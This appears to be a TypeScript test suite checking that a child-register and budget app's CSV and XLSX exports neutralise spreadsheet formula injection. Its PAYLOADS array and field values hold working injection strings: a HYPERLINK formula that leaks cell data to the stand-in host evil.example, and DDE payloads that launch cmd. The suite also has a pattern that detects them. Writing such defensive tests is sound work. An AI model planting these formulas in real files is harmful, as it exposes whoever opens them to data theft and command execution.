/**
 * CSV/XLSX formula injection (issue #13 point 5): a child named `=HYPERLINK(…)`, a spending note starting
 * with `=`, `+`, `-`, `@`, a tab or a carriage return leaves every export as inert text; numbers stay numbers.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { createTestContext, type TestContext } from '../helpers/context.ts';
import { childBody, createPeople, createUnits, type People, type Units } from '../register/fixtures.ts';
import { decryptAesEntry, readCentralDirectory } from '../register/winzip-aes.ts';
import { kienGiangBudgetPlan, type BudgetFixture } from '../budget/fixture.ts';
import { parseCsv, toCsv } from '../../src/domain/children/import.ts';
import { csvField, csvLine, safeText } from '../../src/domain/spreadsheet-safety.ts';
import { rawValuesWorkbook, toBuffer } from '../../src/documents/xlsx/index.ts';
import { Counter } from './harness.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B2,"Bấm vào đây")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'];
const live = (text: string) => /^[=+\-@\t\r]/.test(text);

let ctx: TestContext;
let u: Units;
let p: People;
let f: BudgetFixture;
const counter = new Counter('formula-injection');

before(async () => {
  ctx = await createTestContext();
  u = await createUnits(ctx);
  p = await createPeople(ctx, u);
  f = await kienGiangBudgetPlan(ctx);
});
after(async () => {
  counter.report();
  assert.equal(counter.successes, 0, counter.findings.join('\n'));
  await ctx.close();
});

test('the one rule: formula-like text gets an apostrophe; numbers (negative too) stay numbers; ordinary text is untouched', () => {
  for (const text of PAYLOADS) {
    assert.equal(safeText(text), `'${text}`);
    const field = csvField(text);
    assert.ok(field.startsWith(`"'`), field);
    assert.equal(parseCsv(field)[0][0], `'${text}`, 'reads back as the inert text');
  }
  assert.equal(csvField(-5), '-5');
  assert.equal(csvField(-0.25), '-0.25');
  assert.equal(csvField(12.5), '12.5');
  assert.equal(csvField(null), '');
  assert.equal(csvField('Lò Thị Hương'), 'Lò Thị Hương');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvLine(['x', -1, null, '=1']), `x,-1,,"'=1"`);
  assert.equal(toCsv([['=1', -3]]), `\uFEFF"'=1",-3\r\n`);
});

test('children export: a child named =HYPERLINK(…) leaves the encrypted ZIP as inert text', async () => {
  for (const [i, name] of PAYLOADS.entries()) {
    const r = await p.workerA.request({ method: 'POST', url: '/api/children', payload: childBody(u.communeA, { fullName: name, birthDate: `201${i}-04-0${i + 1}`, confirmNotDuplicate: true, address: '=cmd|\' /C calc\'!A0', caregivers: [{ name: '@SUM(A1)', relation: 'cha' }] }) });
    // the register may refuse some names (a tab, a line break): what is stored must leave inert
    if (r.statusCode !== 201) assert.equal(r.statusCode, 400, r.body);
  }
  const S = p.supervisorA;
  const r = await ctx.app.inject({ method: 'POST', url: '/api/children/export', payload: { unitId: u.communeA, reason: 'Kiểm tra xuất dữ liệu an toàn', password: 'mat-khau-dai-1' }, cookies: { vitreem_session: S.sessionId, vitreem_csrf: S.csrfToken }, headers: { 'x-csrf-token': S.csrfToken } });
  assert.equal(r.statusCode, 200, r.body);
  const [entry] = readCentralDirectory(r.rawPayload);
  const rows = parseCsv(decryptAesEntry(entry, 'mat-khau-dai-1').toString('utf8').replace(/^\uFEFF/, ''));
  assert.ok(rows.length > 1, 'children were exported');
  for (const row of rows.slice(1)) for (const cell of row) counter.attempt(live(cell), `children export cell ${JSON.stringify(cell)}`);
  assert.ok(rows.slice(1).some((row) => row[1].startsWith(`'=HYPERLINK`)), 'the name is there, escaped');
});

test('budget: spending notes starting with = + - @ leave spending.csv and budget.xlsx inert; amounts stay numbers', async () => {
  const values = ['1', '2', '3', '5', '6'].map((activity, i) => ({ activity, year: 2024, source: 'local', amount: 10 + i, note: PAYLOADS[i] }));
  const put = await ctx.request({ method: 'PUT', url: `/api/plans/${f.planId}/budget/spending`, payload: { values } });
  assert.equal(put.statusCode, 200, put.body);
  const csv = await ctx.request({ url: `/api/plans/${f.planId}/budget/spending.csv?year=2024` });
  assert.equal(csv.statusCode, 200);
  const rows = parseCsv(csv.body.replace(/^\uFEFF/, ''));
  for (const row of rows.slice(1)) for (const cell of row) counter.attempt(live(cell), `spending.csv cell ${JSON.stringify(cell)}`);
  assert.ok(rows.some((row) => row[6] === `'${PAYLOADS[0]}`), 'the note is there, escaped');
  const xlsx = await ctx.app.inject({ method: 'GET', url: `/api/plans/${f.planId}/budget.xlsx`, cookies: { vitreem_session: (await ctx.login('admin', ctx.admin.password)).sessionId } });
  assert.equal(xlsx.statusCode, 200, xlsx.body.slice(0, 200));
  await assertWorkbookInert(xlsx.rawPayload, 'budget.xlsx');
});

test('every workbook leaves through toBuffer: text cells inert, its own formulas and negative numbers kept', async () => {
  const wb = rawValuesWorkbook('2024', PAYLOADS.map((comment, i) => ({ unitCode: i === 0 ? '=A1' : `X${i}`, unitName: '@xã', measure: '-1', measureName: '+chỉ số', group: null, value: -i - 0.5, comment })));
  wb.worksheets[0].getCell('N2').value = { formula: 'SUM(G2:G3)', result: -1 } as ExcelJS.CellFormulaValue;
  wb.worksheets[0].getCell('N3').value = { richText: [{ text: '=1+2' }] };
  const buffer = await toBuffer(wb);
  await assertWorkbookInert(buffer, 'values.xlsx');
  const back = new ExcelJS.Workbook();
  await back.xlsx.load(buffer as unknown as ArrayBuffer);
  const ws = back.worksheets[0];
  assert.equal(ws.getCell('G2').value, -0.5, 'a negative number stays a number');
  assert.equal(typeof ws.getCell('G3').value, 'number');
  assert.equal((ws.getCell('N2').value as ExcelJS.CellFormulaValue).formula, 'SUM(G2:G3)', 'the workbook\'s own formula is kept');
  assert.equal(ws.getCell('J2').value, `'${PAYLOADS[0]}`);
});

async function assertWorkbookInert(buffer: Buffer, what: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  let cells = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        cells++;
        const v = cell.value as unknown;
        const text = typeof v === 'string' ? v : v && typeof v === 'object' && 'richText' in v ? (v as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join('') : null;
        if (text !== null) counter.attempt(live(text), `${what} ${cell.address} ${JSON.stringify(text)}`);
        if (v && typeof v === 'object' && 'formula' in v) counter.attempt(!/^(SUM|IF|ROUND|IFERROR|SUMPRODUCT|COUNT|AND|OR|ISNUMBER|[A-Z]+\()/.test(String((v as ExcelJS.CellFormulaValue).formula)) || /HYPERLINK|cmd/i.test(String((v as ExcelJS.CellFormulaValue).formula)), `${what} ${cell.address} formula ${(v as ExcelJS.CellFormulaValue).formula}`);
      }),
    ),
  );
  assert.ok(cells > 0);
}
